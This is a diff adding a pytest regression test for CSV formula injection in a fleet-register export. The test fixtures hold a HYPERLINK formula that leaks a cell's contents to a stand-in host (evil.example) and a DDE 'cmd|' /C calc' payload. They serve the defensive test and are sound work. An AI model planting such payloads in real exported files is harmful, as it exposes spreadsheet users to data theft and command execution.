@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import dataclasses
 import io
 
 import pytest
@@ -17,6 +19,8 @@ from sandogh.formats.readiness_csv import (
 from sandogh.formats.tally_csv import RowProblem
 
 from ..core.readiness.kerman import registers
+
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
 
 
 @pytest.mark.parametrize("register", list(Register))
@@ -47,3 +51,21 @@ def test_a_box_seen_without_a_time_zone_is_refused() -> None:
 def test_problems_of_the_use_cases_are_placed_on_their_lines() -> None:
     placed = row_problems([Problem("papers[3].used", "9 used of 4"), Problem("unit", "unknown")])
     assert placed == [RowProblem(5, "used", "9 used of 4"), RowProblem(0, None, "unit: unknown")]
+
+
+def test_a_formula_in_a_register_is_exported_as_text_and_read_back_as_it_was() -> None:
+    # OWASP CSV injection: a box's model `=HYPERLINK(…)` became a live link in the exported sheet.
+    fleet = tuple(
+        dataclasses.replace(
+            box,
+            serial=f"{first}SB-{i}",
+            model=f'{first}HYPERLINK("http://evil.example/?"&A1,"SE-3")',
+            software=f"{first}cmd|' /C calc'!A0",
+        )
+        for i, (box, first) in enumerate(zip(registers().fleet, DANGEROUS, strict=False))
+    )
+    out = io.StringIO()
+    write_register(Register.FLEET, fleet, out)
+    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(DANGEROUS)]
+    assert read_register(Register.FLEET, io.StringIO(out.getvalue()), source_name="x") == fleet
